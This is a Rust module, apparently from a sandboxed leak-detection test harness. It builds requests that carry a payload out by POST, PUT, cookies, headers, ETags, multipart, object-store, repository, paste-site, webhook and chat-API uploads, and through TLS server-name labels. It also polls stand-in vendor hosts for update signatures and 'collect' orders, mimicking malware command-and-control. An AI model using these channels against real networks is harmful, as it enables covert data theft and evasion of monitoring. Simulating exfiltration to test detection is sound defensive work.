//! HTTP/1.1 in the clear and inside TLS, and services that are reached by it.

use crate::pace::Pace;
use crate::{Failure, send};
use belljar_components::vendor;
use belljar_leaks::{Case, Channel, Timing};
use std::io::{Read, Write};

const UPDATES: &str = "update.vendor.example";
const CONTROL: &str = "control.vendor.example";
/// A host that gives no orders.
const NO_ORDERS: &str = "silence.vendor.example";
const BOUNDARY: &str = "----part7MA4YWxkTrZu0gW";
/// Longest answer that is read.
const ANSWER: usize = 1 << 20;

/// A request line with its header fields (but for `Host` and the length), and a body.
struct Request {
    line: String,
    fields: String,
    body: Vec<u8>,
}

/// Sends a payload in the requests of the case's channel: one, or one for each chunk.
pub(crate) fn send(case: &Case, payload: &[u8], pace: &Pace) -> Result<(), Failure> {
    if case.channel == Channel::Sni {
        return server_name(case, payload);
    }
    let requests: Vec<Request> = if case.timing == Timing::Chunks {
        pace.cut(payload).map(|piece| request(case.channel, piece)).collect::<Result<_, _>>()?
    } else {
        vec![request(case.channel, payload)?]
    };
    if case.port == 443 {
        let mut stream = vendor::connect(&case.host, case.port, vendor::Trust::Machine)?;
        exchange(&mut stream, case, &requests, pace)
    } else {
        exchange(&mut send::connect(&case.host, case.port)?, case, &requests, pace)
    }
}

fn text(payload: &[u8]) -> Result<&str, Failure> {
    Ok(std::str::from_utf8(payload)?)
}

fn request(channel: Channel, payload: &[u8]) -> Result<Request, Failure> {
    let post = |path: &str, kind: &str, body: Vec<u8>| Request {
        line: format!("POST {path} HTTP/1.1"),
        fields: format!("Content-Type: {kind}\r\n"),
        body,
    };
    let get = |path: String, fields: String| Request {
        line: format!("GET {path} HTTP/1.1"),
        fields,
        body: Vec::new(),
    };
    let json = |value: serde_json::Value| value.to_string().into_bytes();
    Ok(match channel {
        Channel::HttpPost | Channel::Https => {
            post("/v1/submit", "application/octet-stream", payload.to_vec())
        }
        Channel::HttpPut => Request {
            line: "PUT /v1/items/7 HTTP/1.1".into(),
            fields: "Content-Type: application/octet-stream\r\n".into(),
            body: payload.to_vec(),
        },
        Channel::HttpQuery => get(format!("/v1/check?v=3&d={}&t=1", text(payload)?), String::new()),
        Channel::HttpPath => get(format!("/v1/items/{}/state", text(payload)?), String::new()),
        Channel::HttpCookie => {
            get("/v1/state".into(), format!("Cookie: s=1; state={}\r\n", text(payload)?))
        }
        Channel::HttpHeader => {
            get("/v1/state".into(), format!("X-Client-State: {}\r\n", text(payload)?))
        }
        Channel::UpdateCheck => get(
            "/v1/version?build=314".into(),
            format!("If-None-Match: \"{}\"\r\n", text(payload)?),
        ),
        Channel::HttpMultipart => {
            let mut body = format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nreport\r\n\
                 --{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; \
                 filename=\"part.bin\"\r\nContent-Type: application/octet-stream\r\n\r\n"
            )
            .into_bytes();
            body.extend_from_slice(payload);
            body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
            post("/v1/report", &format!("multipart/form-data; boundary={BOUNDARY}"), body)
        }
        Channel::ObjectStore => Request {
            line: "PUT /reports/2026/part-0001?partNumber=1&uploadId=AbCdEf HTTP/1.1".into(),
            fields:
                "Content-Type: binary/octet-stream\r\nx-amz-content-sha256: UNSIGNED-PAYLOAD\r\n\
                     x-amz-date: 20260105T120000Z\r\n"
                    .into(),
            body: payload.to_vec(),
        },
        Channel::CodeRepository => Request {
            line: "PUT /repos/reference/notes/contents/notes.txt HTTP/1.1".into(),
            fields: "Content-Type: application/json\r\nAccept: application/json\r\n".into(),
            body: json(serde_json::json!({ "message": "sync", "content": text(payload)? })),
        },
        Channel::PasteSite => {
            let mut body = b"api_option=paste&api_paste_code=".to_vec();
            for &byte in payload {
                if byte.is_ascii_alphanumeric() || b"-._*".contains(&byte) {
                    body.push(byte);
                } else if byte == b' ' {
                    body.push(b'+');
                } else {
                    body.extend(format!("%{byte:02X}").bytes());
                }
            }
            post("/api/api_post.php", "application/x-www-form-urlencoded", body)
        }
        Channel::Webhook => post(
            "/hooks/T024/B07/x1",
            "application/json",
            json(serde_json::json!({ "text": text(payload)? })),
        ),
        Channel::ChatApi => post(
            "/api/chat.postMessage",
            "application/json",
            json(serde_json::json!({
                "channel": "general", "text": text(payload)?, "unfurl": false
            })),
        ),
        other => return Err(format!("{} is not sent by HTTP", other.name()).into()),
    })
}

/// Sends requests one after the other on a connection.
fn exchange(
    stream: &mut (impl Read + Write),
    case: &Case,
    requests: &[Request],
    pace: &Pace,
) -> Result<(), Failure> {
    for (number, request) in requests.iter().enumerate() {
        let head = head(request, &case.host);
        stream.write_all(head.as_bytes())?;
        if requests.len() == 1 {
            pace.write(stream, &request.body)?;
        } else {
            stream.write_all(&request.body)?;
        }
        stream.flush()?;
        answer(stream)?;
        pace.wait(number);
    }
    Ok(())
}

fn head(request: &Request, host: &str) -> String {
    format!(
        "{}\r\nHost: {host}\r\nUser-Agent: courier/1.0\r\n{}Content-Length: {}\r\n\r\n",
        request.line,
        request.fields,
        request.body.len()
    )
}

/// Reads an answer with a length, or as much as comes.
fn answer(stream: &mut impl Read) -> Result<Vec<u8>, Failure> {
    let mut bytes = Vec::new();
    let mut buffer = [0; 4096];
    loop {
        if let Some(end) = bytes.windows(4).position(|four| four == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&bytes[..end]).to_ascii_lowercase();
            let len: usize = head
                .lines()
                .find_map(|line| line.strip_prefix("content-length:"))
                .and_then(|len| len.trim().parse().ok())
                .unwrap_or(0);
            if bytes.len() >= end + 4 + len {
                return Ok(bytes);
            }
        }
        let count = stream.read(&mut buffer)?;
        if count == 0 || bytes.len() > ANSWER {
            return Ok(bytes);
        }
        bytes.extend_from_slice(&buffer[..count]);
    }
}

/// The payload as the labels of a server name: the handshake is all that is sent.
fn server_name(case: &Case, payload: &[u8]) -> Result<(), Failure> {
    let labels: Vec<&str> =
        payload.chunks(60).map(std::str::from_utf8).collect::<Result<_, _>>()?;
    let name = format!("{}.{}", labels.join("."), case.host);
    let address = send::address(&case.host, case.port)?;
    // The certificate is for that name, too: the fake internet makes one for every name.
    let mut stream = vendor::connect_to(address, &name, vendor::Trust::Machine)?;
    stream.flush()?;
    Ok(())
}

/// Sends one body to a path of the case's host by HTTPS.
pub(crate) fn post_https(
    case: &Case,
    path: &str,
    kind: &str,
    bodies: &[Vec<u8>],
    pace: &Pace,
) -> Result<(), Failure> {
    let requests: Vec<Request> = bodies
        .iter()
        .map(|body| Request {
            line: format!("POST {path} HTTP/1.1"),
            fields: format!("Content-Type: {kind}\r\nAccept: {kind}\r\n"),
            body: body.clone(),
        })
        .collect();
    let mut stream = vendor::connect(&case.host, case.port, vendor::Trust::Machine)?;
    exchange(&mut stream, case, &requests, pace)
}

fn get(host: &str, path: &str) -> Result<Vec<u8>, Failure> {
    let request =
        Request { line: format!("GET {path} HTTP/1.1"), fields: String::new(), body: Vec::new() };
    let mut stream = vendor::connect(host, 443, vendor::Trust::Machine)?;
    stream.write_all(head(&request, host).as_bytes())?;
    stream.flush()?;
    answer(&mut stream)
}

/// Fetches an update; without it nothing more happens.
pub(crate) fn fetch_update() -> Result<(), Failure> {
    let answer = get(UPDATES, "/v1/signatures")?;
    if answer.windows(10).any(|part| part == b"signatures") {
        Ok(())
    } else {
        Err("there is no update".into())
    }
}

/// Whether the control server has orders for this machine.
pub(crate) fn ordered(machine_id: &str, orders: bool) -> Result<bool, Failure> {
    let host = if orders { CONTROL } else { NO_ORDERS };
    let answer = get(host, &format!("/v1/orders?m={machine_id}"))?;
    Ok(answer.windows(9).any(|part| part == b"\"collect\""))
}
